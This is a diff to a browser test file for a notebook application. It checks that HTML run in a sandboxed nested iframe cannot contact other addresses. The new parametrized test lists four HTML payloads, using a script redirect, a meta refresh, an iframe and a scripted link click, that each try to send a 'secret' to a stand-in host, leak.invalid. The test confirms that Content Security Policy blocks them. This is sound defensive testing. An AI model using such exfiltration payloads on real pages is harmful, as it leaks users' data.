@@ -80,10 +80,30 @@ def test_scripts_of_html_run_only_when_asked_and_reach_nothing(lab, lab_root, sc
     cell = lab.cell(0)
     expect(cell.locator(".msgbook-Display-html")).to_have_text("before")
     cell.get_by_role("button", name="Run it in a sandbox").click()
-    frame = cell.frame_locator("iframe")
+    frame = cell.frame_locator("iframe").frame_locator("iframe")
     expect(frame.locator("body")).to_contain_text("kept out and offline")
     screenshot("sandbox")
     assert lab.page.evaluate("() => window.hacked") is None
+    assert lab.requests == []
+
+
+@pytest.mark.parametrize(
+    "leaving",
+    [
+        "<script>location = 'http://leak.invalid/?secret'</script>",
+        "<meta http-equiv=refresh content='0;url=http://leak.invalid/?secret'>",
+        "<iframe src='http://leak.invalid/?secret'></iframe>",
+        "<a href='http://leak.invalid/?secret'>x</a><script>document.links[0].click()</script>",
+    ],
+)
+def test_html_in_the_sandbox_goes_to_no_other_address(leaving, lab, lab_root):
+    write_turn(lab_root / "leaving.ipynb", display({"text/html": f"<script></script>{leaving}"}))
+    lab.open("leaving.ipynb")
+    lab.console.clear()
+
+    with lab.page.expect_event("console", lambda said: "leak.invalid" in said.text, timeout=10_000):
+        lab.cell(0).get_by_role("button", name="Run it in a sandbox").click()
+    assert "Content Security Policy" in " ".join(lab.console)
     assert lab.requests == []
 
 
